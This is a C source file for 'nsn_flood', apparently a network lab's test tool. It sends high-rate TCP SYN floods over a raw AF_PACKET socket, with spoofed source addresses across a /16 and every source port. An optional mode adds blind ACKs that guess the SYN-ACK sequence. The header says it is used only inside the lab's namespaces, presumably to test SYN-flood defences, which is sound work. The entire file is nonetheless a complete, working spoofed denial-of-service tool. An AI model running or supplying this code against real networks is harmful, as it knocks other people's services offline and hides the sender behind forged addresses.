// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/* nsn_flood - the lab's SYN flood: COUNT TCP SYNs with spoofed sources
 * (SRC_NET/16, a range the lab's nodes and pods never use, every source
 * port), valid checksums, sent as frames on IFACE (AF_PACKET) to DST_MAC.
 * With synack, each SYN is followed by a blind ACK of its 5-tuple (what a
 * spoofer who cannot see the SYN-ACK sends): 2 x COUNT frames.
 *
 *   nsn_flood IFACE DST_MAC SRC_NET DST_IP DST_PORT COUNT [synack]
 *
 * Prints "sent N in S s". Only ever used inside the lab's namespaces. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 256
#define FRAME_LEN (14 + 20 + 20)

static uint16_t fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static uint32_t sum16(const void *p, size_t len)
{
	const uint16_t *w = p;
	uint32_t s = 0;

	for (size_t i = 0; i < len / 2; i++)
		s += w[i];
	return s;
}

int main(int argc, char **argv)
{
	static uint8_t frames[BATCH][FRAME_LEN];
	struct mmsghdr msgs[BATCH];
	struct iovec iov[BATCH];
	struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_halen = ETH_ALEN };
	unsigned int mac[6];
	struct in_addr net, dst;
	unsigned long count, sent = 0;
	int synack = argc == 8 && !strcmp(argv[7], "synack");
	struct timespec t0, t1;
	int fd;

	if ((argc != 7 && !synack) || sscanf(argv[2], "%x:%x:%x:%x:%x:%x", &mac[0], &mac[1], &mac[2], &mac[3],
				&mac[4], &mac[5]) != 6 ||
	    inet_pton(AF_INET, argv[3], &net) != 1 || inet_pton(AF_INET, argv[4], &dst) != 1) {
		fprintf(stderr, "usage: nsn_flood IFACE DST_MAC SRC_NET DST_IP DST_PORT COUNT [synack]\n");
		return 2;
	}
	count = strtoul(argv[6], NULL, 10) * (synack ? 2 : 1);
	to.sll_ifindex = (int)if_nametoindex(argv[1]);
	fd = socket(AF_PACKET, SOCK_RAW, 0);
	if (fd < 0 || !to.sll_ifindex) {
		perror("nsn_flood: socket/interface");
		return 1;
	}
	for (int i = 0; i < 6; i++)
		to.sll_addr[i] = (uint8_t)mac[i];
	clock_gettime(CLOCK_MONOTONIC, &t0);
	while (sent < count) {
		unsigned int n = count - sent < BATCH ? (unsigned int)(count - sent) : BATCH;
		int rc;

		for (unsigned int i = 0; i < n; i++) {
			uint8_t *f = frames[i];
			struct iphdr *ip = (void *)(f + 14);
			struct tcphdr *th = (void *)(f + 34);
			unsigned long j = sent + i, k = synack ? j / 2 : j;
			int ack = synack && (j & 1);
			struct { uint32_t s, d; uint8_t z, p; uint16_t l; } ph;

			memset(f, 0, FRAME_LEN);
			for (int b = 0; b < 6; b++)
				f[b] = (uint8_t)mac[b];
			f[6] = 0x02;	/* a locally administered source MAC */
			f[11] = 0x66;
			f[12] = 0x08;
			ip->version = 4;
			ip->ihl = 5;
			ip->tot_len = htons(40);
			ip->id = htons((uint16_t)j);
			ip->ttl = 60;
			ip->protocol = IPPROTO_TCP;
			ip->saddr = htonl(ntohl(net.s_addr) | (uint32_t)(k & 0xffff));
			ip->daddr = dst.s_addr;
			ip->check = fold(sum16(ip, 20));
			th->source = htons((uint16_t)(1024 + (k >> 16) % 60000));
			th->dest = htons((uint16_t)atoi(argv[5]));
			th->seq = htonl((uint32_t)(k * 2654435761u) + (uint32_t)ack);
			th->doff = 5;
			th->syn = !ack;
			th->ack = ack;
			if (ack)	/* blind: the SYN-ACK's sequence number is a guess */
				th->ack_seq = htonl((uint32_t)(k * 40503u));
			th->window = htons(64240);
			ph = (typeof(ph)){ ip->saddr, ip->daddr, 0, IPPROTO_TCP, htons(20) };
			th->check = fold(sum16(&ph, sizeof(ph)) + sum16(th, 20));
			iov[i] = (struct iovec){ .iov_base = f, .iov_len = FRAME_LEN };
			msgs[i] = (struct mmsghdr){ .msg_hdr = { .msg_name = &to, .msg_namelen = sizeof(to),
								 .msg_iov = &iov[i], .msg_iovlen = 1 } };
		}
		rc = sendmmsg(fd, msgs, n, 0);
		if (rc < 0) {
			if (errno == ENOBUFS || errno == EAGAIN) {
				usleep(100);
				continue;
			}
			perror("nsn_flood: sendmmsg");
			return 1;
		}
		sent += (unsigned long)rc;
	}
	clock_gettime(CLOCK_MONOTONIC, &t1);
	printf("sent %lu in %.2f s\n", sent, (t1.tv_sec - t0.tv_sec) + (t1.tv_nsec - t0.tv_nsec) / 1e9);
	close(fd);
	return 0;
}
